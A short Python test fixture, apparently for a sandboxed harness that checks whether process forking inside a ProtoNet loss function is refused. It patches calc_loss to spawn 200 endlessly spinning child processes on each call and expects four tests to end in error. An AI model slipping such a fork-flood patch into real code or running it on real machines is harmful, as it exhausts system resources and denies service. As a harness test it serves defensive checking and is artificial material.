"""Forks inside the loss, where a probe may not: the call is refused."""

LOST = {"3.1": "error", "3.2": "error", "3.3": "error", "3.4": "error"}

import os

_calc_loss = ProtoNet.calc_loss


def calc_loss(self, support, query, device):
    for _ in range(200):
        if os.fork() == 0:
            while True:
                pass
    return _calc_loss(self, support, query, device)


ProtoNet.calc_loss = calc_loss
